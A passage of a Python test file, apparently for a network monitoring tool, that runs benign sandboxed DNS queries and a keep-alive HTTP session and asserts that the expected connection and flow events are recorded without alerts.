        for qtype in (1, 28):
            s.send(query(i * 2 + qtype, name, qtype))
            s.recv(512)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    for i, name in enumerate(names):
        s.sendto(query(100 + i, name, 1), ("198.51.100.1", 53))
        s.recvfrom(512)
print("done", flush=True)
'''


def test_benign_dns_queries(net, tmp_path):
    with harness.udp_echo_server(net, 53) as dns:
        with EpisodeRun(tmp_path, "ep-dns", net.sandbox_prefix() + [PYTHON, "-u", "-c", DNS_CLIENT]) as run:
            docs = run.finish()
        assert len(dns.received()) == 15, dns.received()
    assert select(docs, ("connection_attempted", "udp_sent"), destination__ip=HOST_IP, destination__port=53), \
        dump(docs)
    assert_no_alerts(docs)


# HTTP/1.1 with keep-alive on the test host (serves the harness's readiness probe too).
KEEPALIVE_SERVER = r'''
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        body = b"ok " + self.path.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
server = ThreadingHTTPServer(("198.51.100.1", 8081), H)
print("listening", flush=True)
server.serve_forever()
'''

# One connection, a request every second for about 4 s: past long_flow_seconds (2 s in this episode).
KEEPALIVE_CLIENT = r'''
import http.client, time
c = http.client.HTTPConnection("198.51.100.1", 8081, timeout=10)
for i in range(5):
    c.request("GET", f"/step/{i}")
    r = c.getresponse()
    assert r.status == 200 and r.read() == f"ok /step/{i}".encode()
    print("port", c.sock.getsockname()[1], flush=True)
    time.sleep(1)
c.close()
print("done", flush=True)
'''


def test_benign_keepalive_http_session_past_long_flow_seconds(net, tmp_path):
    config = "[flows]\nlong_flow_seconds = 2.0\nupdate_interval_seconds = 1.0\n"
    with harness.python_server(net, KEEPALIVE_SERVER, 8081, banner="listening\n"):
        with EpisodeRun(tmp_path, "ep-keepalive", net.sandbox_prefix() + [PYTHON, "-u", "-c", KEEPALIVE_CLIENT],
                        config=config) as run:
            docs = run.finish()
    ports = {line.split()[1] for line in run.out.lines if line.startswith("port ")}
    assert len(ports) == 1, f"the client used several connections: {ports}"
    established = select(docs, "connection_established", destination__ip=HOST_IP, destination__port=8081)
    assert len(established) == 1, dump(docs)
    ended = select(docs, "flow_ended", destination__ip=HOST_IP, destination__port=8081)
    assert ended and get(ended[0], "event.duration") > 3e9, dump(ended)
    assert_no_alerts(docs)
